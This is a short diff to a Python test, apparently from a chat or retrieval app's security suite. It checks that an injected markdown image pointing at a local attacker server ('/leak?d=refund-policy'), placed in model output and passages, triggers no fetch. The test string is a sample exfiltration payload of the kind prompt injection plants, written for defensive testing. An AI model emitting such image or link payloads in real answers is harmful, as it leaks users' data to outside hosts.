@@ -7,7 +7,6 @@ block, not as an instruction."""
 from __future__ import annotations
 
 import json
-import os
 import re
 import threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -94,8 +93,7 @@ class ObedientModel(ThreadingHTTPServer):
 
 
 def test_an_injected_image_in_model_output_and_passages_fetches_nothing(tmp_path):
-    if not os.path.exists(harness.CHROMIUM):
-        pytest.skip(f"no Chromium at {harness.CHROMIUM} (apt-get install chromium)")
+    harness.require_chromium()
     with servers.serving(Attacker()) as attacker:
         leak = attacker.url("/leak?d=refund-policy")
         answer = f"Refunds take 30 days. ![status]({leak}) See [details]({attacker.url('/click')})."
